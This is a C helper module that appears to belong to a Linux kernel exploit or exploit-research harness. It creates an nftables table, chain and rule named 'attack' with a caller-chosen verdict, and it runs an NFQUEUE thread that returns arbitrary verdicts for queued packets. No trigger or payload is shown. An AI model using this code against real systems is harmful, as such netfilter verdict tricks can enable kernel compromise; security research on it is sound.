// SPDX-License-Identifier: GPL-2.0-only OR MIT
#include "../nft.h"
#include "netlink.h"
#include <arpa/inet.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netfilter/nfnetlink_queue.h>
#include <pthread.h>
#include <sys/socket.h>

#define NAME "attack"

static struct request about(int subsystem, int type, int flags, uint16_t resource)
{
	const struct nfgenmsg head = { .nfgen_family = AF_INET, .res_id = htons(resource) };

	return begin(subsystem << 8 | type, flags, &head, sizeof(head));
}

static void add_name(struct request *request, int type, const char *name)
{
	add(request, type, name, strlen(name) + 1);
}

static void add_number(struct request *request, int type, uint32_t number)
{
	const uint32_t value = htonl(number);

	add(request, type, &value, sizeof(value));
}

/* Asks for all of them at once: the kernel does all or nothing. */
static int ask_together(struct request *requests, unsigned count)
{
	struct request first = about(0, NFNL_MSG_BATCH_BEGIN, 0, NFNL_SUBSYS_NFTABLES), last = about(0, NFNL_MSG_BATCH_END, 0, NFNL_SUBSYS_NFTABLES);
	int netlink = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_NETFILTER);
	char batch[4096], answer[4096];
	size_t length = 0;

	if (netlink < 0)
		return -1;
	first.head.nlmsg_flags = last.head.nlmsg_flags = NLM_F_REQUEST;
	for (unsigned i = 0; i < count + 2; i++) {
		const struct request *next = i == 0 ? &first : i == count + 1 ? &last : &requests[i - 1];

		memcpy(batch + length, next, next->head.nlmsg_len);
		length += NLMSG_ALIGN(next->head.nlmsg_len);
	}
	errno = 0;
	if (send(netlink, batch, length, 0) < 0)
		count = 0;
	while (count > 0 && errno == 0) {
		ssize_t received = recv(netlink, answer, sizeof(answer), 0);

		for (struct nlmsghdr *next = (void *)answer; received > 0 && NLMSG_OK(next, received) && errno == 0; next = NLMSG_NEXT(next, received)) {
			errno = -((struct nlmsgerr *)NLMSG_DATA(next))->error;
			count--;
		}
	}
	close(netlink);
	return errno ? -1 : 0;
}

static struct rtattr *begin_expression(struct request *request, const char *name)
{
	add_name(request, NFTA_EXPR_NAME, name);
	return begin_nest(request, NFTA_EXPR_DATA);
}

static void add_verdict(struct request *request, uint32_t verdict)
{
	struct rtattr *data = begin_expression(request, "immediate"), *value, *code;

	add_number(request, NFTA_IMMEDIATE_DREG, NFT_REG_VERDICT);
	value = begin_nest(request, NFTA_IMMEDIATE_DATA);
	code = begin_nest(request, NFTA_DATA_VERDICT);
	add_number(request, NFTA_VERDICT_CODE, verdict);
	end_nest(request, code);
	end_nest(request, value);
	end_nest(request, data);
}

static void add_queue(struct request *request)
{
	const uint16_t first = 0;
	struct rtattr *data = begin_expression(request, "queue");

	add(request, NFTA_QUEUE_NUM, &first, sizeof(first));
	end_nest(request, data);
}

static void add_expression(struct request *request, uint32_t verdict)
{
	struct rtattr *expressions = begin_nest(request, NFTA_RULE_EXPRESSIONS), *element = begin_nest(request, NFTA_LIST_ELEM);

	if (verdict == NF_QUEUE)
		add_queue(request);
	else
		add_verdict(request, verdict);
	end_nest(request, element);
	end_nest(request, expressions);
}

int add_chain(int priority, uint32_t verdict)
{
	struct request requests[] = {
		about(NFNL_SUBSYS_NFTABLES, NFT_MSG_NEWTABLE, NLM_F_CREATE, 0),
		about(NFNL_SUBSYS_NFTABLES, NFT_MSG_NEWCHAIN, NLM_F_CREATE, 0),
		about(NFNL_SUBSYS_NFTABLES, NFT_MSG_NEWRULE, NLM_F_CREATE | NLM_F_APPEND, 0),
	};
	struct rtattr *hook;

	add_name(&requests[0], NFTA_TABLE_NAME, NAME);
	add_name(&requests[1], NFTA_CHAIN_TABLE, NAME);
	add_name(&requests[1], NFTA_CHAIN_NAME, NAME);
	hook = begin_nest(&requests[1], NFTA_CHAIN_HOOK);
	add_number(&requests[1], NFTA_HOOK_HOOKNUM, NF_INET_LOCAL_IN);
	add_number(&requests[1], NFTA_HOOK_PRIORITY, priority);
	end_nest(&requests[1], hook);
	add_name(&requests[1], NFTA_CHAIN_TYPE, "filter");
	add_name(&requests[2], NFTA_RULE_TABLE, NAME);
	add_name(&requests[2], NFTA_RULE_CHAIN, NAME);
	add_expression(&requests[2], verdict);
	return ask_together(requests, 3);
}

int flush_ruleset(void)
{
	struct request request = about(NFNL_SUBSYS_NFTABLES, NFT_MSG_DELTABLE, 0, 0);

	return ask_together(&request, 1);
}

struct queue {
	int netlink;
	uint32_t verdict;
};
static volatile unsigned answered;

unsigned packets_answered(void)
{
	return answered;
}

/* What the kernel says of a packet begins with its id. */
static void *answer(void *argument)
{
	const struct queue *queue = argument;
	char message[65536];

	while (recv(queue->netlink, message, sizeof(message), 0) > 0) {
		const struct nlmsghdr *head = (void *)message;
		const struct nfqnl_msg_packet_hdr *packet = (void *)message + NLMSG_LENGTH(sizeof(struct nfgenmsg)) + sizeof(struct rtattr);
		struct nfqnl_msg_verdict_hdr verdict = { .verdict = htonl(queue->verdict) };
		struct request request = about(NFNL_SUBSYS_QUEUE, NFQNL_MSG_VERDICT, 0, 0);

		if (head->nlmsg_type != (NFNL_SUBSYS_QUEUE << 8 | NFQNL_MSG_PACKET))
			continue;
		request.head.nlmsg_flags = NLM_F_REQUEST;
		verdict.id = packet->packet_id;
		add(&request, NFQA_VERDICT_HDR, &verdict, sizeof(verdict));
		answered += send(queue->netlink, &request, request.head.nlmsg_len, 0) > 0;
	}
	return NULL;
}

void answer_queue(uint32_t verdict)
{
	static struct queue queue;
	const struct nfqnl_msg_config_cmd bind = { .command = NFQNL_CFG_CMD_BIND, .pf = htons(AF_INET) };
	const struct nfqnl_msg_config_params without_content = { .copy_mode = NFQNL_COPY_META };
	struct request request = about(NFNL_SUBSYS_QUEUE, NFQNL_MSG_CONFIG, 0, 0);
	struct {
		struct nlmsghdr head;
		struct nlmsgerr error;
	} reply;
	pthread_t thread;

	queue.verdict = verdict;
	queue.netlink = must("socket of netfilter", socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_NETFILTER));
	add(&request, NFQA_CFG_CMD, &bind, sizeof(bind));
	add(&request, NFQA_CFG_PARAMS, &without_content, sizeof(without_content));
	must("send", send(queue.netlink, &request, request.head.nlmsg_len, 0));
	must("recv", recv(queue.netlink, &reply, sizeof(reply), 0));
	errno = -reply.error.error;
	must("NFQNL_CFG_CMD_BIND", errno ? -1 : 0);
	must("pthread_create", -pthread_create(&thread, NULL, answer, &queue));
}
